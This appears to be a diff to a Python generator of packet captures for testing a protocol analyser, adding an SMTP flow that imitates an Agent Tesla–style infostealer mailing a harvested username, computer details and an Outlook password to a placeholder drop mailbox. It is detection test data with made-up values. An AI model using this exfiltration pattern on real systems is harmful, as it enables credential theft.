@@ -697,6 +697,55 @@ S: +OK Logging out.
     cap.write(path)
 
 
+def smtp_stealer_report(path):
+    """An infostealer's report, shaped as Agent Tesla mails it: AUTH LOGIN
+    from the implant, subject PW_user/HOST, and an HTML body in
+    quoted-printable listing the host and the credentials it took (all
+    values made up)."""
+    user = base64.b64encode(b"drop@mailbox.example").decode()
+    pw = base64.b64encode(b"not-a-real-secret").decode()
+    body = [
+        "Time: 03/05/2024 14:00:00<br>User Name: jdoe<br>Computer Name: W=",
+        "S-0042<br>OSFullName: Microsoft Windows 10 Pro<br>IP Ad=",
+        "dress: 198.51.100.7<hr>Host: https://mail.example<br>Username: jd=",
+        "oe<br>Password: made-up-for-tests<br>Application: Outlook<br><hr>",
+    ]
+    steps = transcript("""
+S: 220 mx.mailbox.example ESMTP
+C: EHLO WS-0042
+S: 250-mx.mailbox.example
+S: 250 AUTH LOGIN PLAIN
+C: AUTH LOGIN
+S: 334 VXNlcm5hbWU6
+C: %s
+S: 334 UGFzc3dvcmQ6
+C: %s
+S: 235 2.7.0 Authentication successful
+C: MAIL FROM:<drop@mailbox.example>
+S: 250 OK
+C: RCPT TO:<drop@mailbox.example>
+S: 250 Accepted
+C: DATA
+S: 354 Enter message
+C: From: drop@mailbox.example
+C: To: drop@mailbox.example
+C: Subject: PW_jdoe/WS-0042
+C: Date: Tue, 05 Mar 2024 14:00:00 +0000
+C: MIME-Version: 1.0
+C: Content-Type: text/html; charset=utf-8
+C: Content-Transfer-Encoding: quoted-printable
+C:
+%s
+C: .
+S: 250 OK id=1rSTEAL-0001
+C: QUIT
+S: 221 closing connection
+""" % (user, pw, c_block(body)))
+    cap = Capture("eth")
+    simple_flow(cap, steps, cport=40019, sport=587)
+    cap.write(path)
+
+
 def several_flows_timeout(path):
     """Three SMTP flows from the same client, with idle times > 10 minutes
     of packet time: flow 1 (00:00) complete; flow 2 (00:11) stops after RCPT
@@ -762,6 +811,7 @@ CAPTURES = {
     "proxy-connect-refused": proxy_connect_refused,
     "several-flows-timeout": several_flows_timeout,
     "starttls-cleartext": starttls_cleartext,
+    "smtp-stealer-report": smtp_stealer_report,
 }
 
 
